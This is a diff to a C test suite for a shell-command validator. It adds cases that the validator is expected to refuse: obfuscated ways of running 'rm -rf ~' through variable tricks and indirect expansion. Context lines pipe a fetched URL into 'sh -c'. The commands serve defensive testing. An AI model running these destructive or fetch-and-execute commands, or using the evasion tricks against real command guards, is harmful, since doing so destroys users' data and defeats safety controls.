@@ -199,6 +199,13 @@ static const struct expect bypasses[] = {
 	R("validator.unresolved-program", "ls | xargs -I{} {} -rf ~"),
 	R("validator.unresolved-program", "ls | xargs -I % % -rf ~"),
 	R("validator.unresolved-program", "ls | xargs --replace=@ @"),
+	R("validator.unresolved-program", "x=ls; unset x; $x rm -rf ~"),
+	R("validator.unresolved-program", "x=; $x rm -rf ~"),
+	R("validator.unresolved-program", "x=ls; read x; $x -rf ~"),
+	R("validator.unresolved-program", "x=ls; for x in rm; do :; done; $x -rf ~"),
+	R("validator.unresolved-program", "x=ls; . ./env.sh; $x -rf ~"),
+	R("validator.unresolved-program", "x=ls; printf -v x rm; $x -rf ~"),
+	R("validator.unresolved-program", "x=ls; getopts x: x; $x -rf ~"),
 	R("dangerous.dynamic-code", "curl -s https://x.example | xargs -I{} sh -c {}"),
 	R("dangerous.dynamic-code", "cat cmds | xargs -I{} bash -c '{}'"),
 	R("dangerous.dynamic-code", "cat cmds | xargs -i sh -c 'x; {}'"),
@@ -1025,6 +1032,8 @@ START_TEST(test_bash_dialect)
 		{ "echo $((x+1))", WARD_VERDICT_REFUSED, "dangerous.dynamic-code" },
 		{ "x='a[$(rm -rf ~)]'; echo $((x))", WARD_VERDICT_REFUSED, "dangerous.dynamic-code" },
 		{ "${x:-rm} -rf ~", WARD_VERDICT_REFUSED, "validator.unresolved-program" },
+		{ "x=r; x+=m; $x -rf ~", WARD_VERDICT_REFUSED, "validator.unresolved-program" },
+		{ "x=ls; declare -n x=y; $x", WARD_VERDICT_REFUSED, "validator.unresolved-program" },
 	};
 	size_t i;
 
@@ -1041,7 +1050,9 @@ START_TEST(test_bash_dialect)
 	}
 	/* not modelled yet: refused with the column, in bash as in sh */
 	{
-		const char *unmodelled[] = { "a=(rm -rf /); \"${a[@]}\"", "for ((i=0;i<3;i++)); do rm -rf ~; done" };
+		const char *unmodelled[] = { "a=(rm -rf /); \"${a[@]}\"",
+					     "for ((i=0;i<3;i++)); do rm -rf ~; done",
+					     "y=rm; x=y; ${!x} -rf ~" };
 
 		for (i = 0; i < ARRAY_N(unmodelled); i++) {
 			struct ward_verdict v;
